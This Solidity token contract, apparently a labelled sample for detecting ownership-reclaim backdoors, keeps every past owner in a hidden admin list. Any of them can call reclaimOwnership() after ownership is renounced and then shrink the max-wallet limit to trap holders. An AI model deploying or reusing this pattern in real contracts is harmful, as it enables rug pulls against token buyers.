// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title can_take_back_ownership through a kept authorisation: every
/// address that was ever owner stays in an "admins" mapping, and any of
/// them can reclaimOwnership() after the owner renounced. The creator has
/// renounced through the token's own path.
contract HandoverToken {
    string public constant name = "Handover";
    string public constant symbol = "HAND";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    uint256 public maxWallet;
    address public owner;
    mapping(address => bool) private _admins;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(uint256 supply) {
        owner = msg.sender;
        _admins[msg.sender] = true;
        totalSupply = supply;
        maxWallet = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function transferOwnership(address next) external {
        require(msg.sender == owner, "HAND: owner");
        _admins[next] = true;
        emit OwnershipTransferred(owner, next);
        owner = next;
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "HAND: owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function reclaimOwnership() external {
        require(_admins[msg.sender], "HAND: not an admin");
        emit OwnershipTransferred(owner, msg.sender);
        owner = msg.sender;
    }

    function setMaxWallet(uint256 amount) external {
        require(msg.sender == owner, "HAND: owner");
        maxWallet = amount;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "HAND: allowance");
            allowance[from][msg.sender] = a - value;
        }
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "HAND: balance");
        unchecked {
            balanceOf[from] -= value;
        }
        balanceOf[to] += value;
        require(_admins[to] || balanceOf[to] <= maxWallet, "HAND: max wallet");
        emit Transfer(from, to, value);
    }
}
